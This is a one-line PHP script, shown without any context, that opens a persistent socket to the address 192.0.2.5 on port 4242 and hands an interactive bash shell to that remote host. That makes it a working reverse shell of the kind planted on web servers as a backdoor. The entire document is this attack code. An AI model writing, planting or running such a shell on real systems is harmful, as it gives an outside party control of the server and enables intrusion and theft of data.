<?php $s=pfsockopen("tcp://192.0.2.5",4242);passthru("bash -i 0<&3 1>&3 2>&3");
